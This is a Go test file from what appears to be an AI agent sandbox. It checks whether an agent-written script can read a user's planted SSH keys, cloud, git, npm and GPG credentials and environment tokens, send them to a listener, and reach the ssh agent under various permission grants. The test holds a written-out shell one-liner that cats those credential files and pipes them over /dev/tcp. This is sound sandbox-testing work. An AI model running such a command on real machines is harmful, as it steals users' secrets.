package wall

import (
	"io"
	"net"
	"os"
	"path/filepath"
	"strconv"
	"strings"
	"testing"
	"time"

	"github.com/sayso-dev/sayso/internal/place"
	"github.com/sayso-dev/sayso/internal/testenv"
)

// The attack: a script the agent wrote runs as local work; it reads the
// person's keys, tokens and the secrets in its environment, asks the ssh
// agent to sign, and posts what it got to a listener. Judged by outcome:
// what the listener received, and whether the agent was reached.
func TestWallCredentials(t *testing.T) {
	need(t)
	w := newWorld(t)
	secrets := map[string]string{
		"/.ssh/id_ed25519":                "ssh-private-key-material",
		"/.ssh/work_key":                  "another-private-key",
		"/.aws/credentials":               "aws_secret_access_key=AKIASECRET",
		"/.config/gh/hosts.yml":           "oauth_token: gho_secret",
		"/.netrc":                         "machine example.com password netrc-secret",
		"/.git-credentials":               "https://u:git-cred-secret@example.com",
		"/.docker/config.json":            `{"auths":{"x":{"auth":"docker-secret"}}}`,
		"/.kube/config":                   "token: kube-secret",
		"/.config/gcloud/credentials.db":  "gcloud-secret",
		"/.npmrc":                         "//registry.npmjs.org/:_authToken=npm-secret",
		"/.password-store/bank.gpg":       "pass-secret",
		"/.gnupg/private-keys-v1.d/x.key": "gpg-secret",
	}
	for p, c := range secrets {
		if err := os.MkdirAll(filepath.Dir(w.home+p), 0o700); err != nil {
			t.Fatal(err)
		}
		if err := os.WriteFile(w.home+p, []byte(c), 0o600); err != nil {
			t.Fatal(err)
		}
	}
	// Every secret planted is one the table names.
	for p := range secrets {
		if !place.IsCredential(strings.TrimPrefix(p, "/")) {
			t.Fatalf("%s is not in place.Credentials", p)
		}
	}

	// The person's ssh agent: any connection is a signing the step got.
	agentDir, err := os.MkdirTemp(w.base, "agent")
	if err != nil {
		t.Fatal(err)
	}
	agentSock := filepath.Join(agentDir, "agent.sock")
	agent := openDoor(t, "unix", agentSock)

	// The listener the script posts to.
	ln, err := net.Listen("tcp", "127.0.0.1:0")
	if err != nil {
		t.Fatal(err)
	}
	defer ln.Close()
	got := make(chan string, 16)
	go func() {
		for {
			c, err := ln.Accept()
			if err != nil {
				return
			}
			go func() {
				defer c.Close()
				_ = c.SetReadDeadline(time.Now().Add(testenv.Hang))
				b, _ := io.ReadAll(c)
				got <- string(b)
			}()
		}
	}()
	port := ln.Addr().(*net.TCPAddr).Port
	script := `{ cat ~/.ssh/* ~/.aws/credentials ~/.config/gh/hosts.yml ~/.netrc ~/.git-credentials ~/.docker/config.json \
		~/.kube/config ~/.config/gcloud/credentials.db ~/.npmrc ~/.password-store/* ~/.gnupg/private-keys-v1.d/*; \
		echo "env:$GITHUB_TOKEN:$AWS_SECRET_ACCESS_KEY:$NPM_AUTH"; } 2>/dev/null > /dev/tcp/127.0.0.1/` + strconv.Itoa(port) + `
		` + helperEnv + `=1 ` + launcher(t) + ` dial "$SSH_AUTH_SOCK" 2>/dev/null && echo agent-reached`
	env := []string{"HOME=" + w.home, "SSH_AUTH_SOCK=" + agentSock, "GITHUB_TOKEN=ghp_env_secret",
		"AWS_SECRET_ACCESS_KEY=aws_env_secret", "NPM_AUTH=npm_env_secret"}

	// Each step posts what it could read straight to the listener: on the
	// machine's network, which only a credential grant gets, so that what
	// is tested here is what it could read (TestWallNetworkOwn: without
	// the grant nothing leaves at all).
	post := func(p Profile) (string, string) {
		p.HostNetwork = true
		r := client(t, w.root, p.Wrap(script, launcher(t)), "", env...)
		select {
		case s := <-got:
			return s, r.stdout
		case <-time.After(testenv.Hang):
			t.Fatalf("the listener received nothing in %v: %+v", testenv.Hang, r)
			return "", ""
		}
	}
	envSecrets := []string{"ghp_env_secret", "aws_env_secret", "npm_env_secret"}

	// Local work: nothing of the person's credentials leaves.
	sent, out := post(w.profile(Local))
	for _, c := range secrets {
		if strings.Contains(sent, c) {
			t.Errorf("local: the listener received %q", c)
		}
	}
	for _, s := range envSecrets {
		if strings.Contains(sent, s) {
			t.Errorf("local: the listener received the environment's %q", s)
		}
	}
	// The step has ended: what it connected, the agent has taken.
	if agent.settle(t); len(agent.received()) != 0 || strings.Contains(out, "agent-reached") {
		t.Errorf("local: the ssh agent was reached %d times (%q)", len(agent.received()), out)
	}

	// A step granted git's credentials (a git fetch over ssh) reads
	// those, and the agent, and nothing else.
	grant := For(Inputs{Home: w.home, Root: w.root, Hidden: []string{w.state, w.bin}, Scope: Local,
		Credentials: []string{".ssh", ".git-credentials", ".netrc"}})
	sent, out = post(grant)
	for p, c := range secrets {
		granted := strings.HasPrefix(p, "/.ssh/") || p == "/.git-credentials" || p == "/.netrc"
		if strings.Contains(sent, c) != granted {
			t.Errorf("granted git's credentials: %s read = %v, want %v", p, !granted, granted)
		}
	}
	if !strings.Contains(out, "agent-reached") {
		t.Errorf("granted git's credentials: the ssh agent was not reached (%q)", out)
	}

	// What a mode let through wide (autopilot, an allow entry) writes
	// anywhere, but no one saw what it would do with the credentials.
	sent, out = post(w.profile(Approved))
	for p, c := range secrets {
		if strings.Contains(sent, c) {
			t.Errorf("let through wide by a mode: %s was read", p)
		}
	}
	if strings.Contains(out, "agent-reached") {
		t.Errorf("let through wide by a mode: the ssh agent was reached")
	}

	// What the person said yes to runs with their credentials.
	yes := For(Inputs{Home: w.home, Root: w.root, Hidden: []string{w.state, w.bin}, Scope: Approved, Secrets: true})
	sent, out = post(yes)
	for p, c := range secrets {
		if !strings.Contains(sent, c) {
			t.Errorf("the person's yes: %s was not readable", p)
		}
	}
	if !strings.Contains(out, "agent-reached") {
		t.Errorf("the person's yes: the ssh agent was not reached")
	}
}
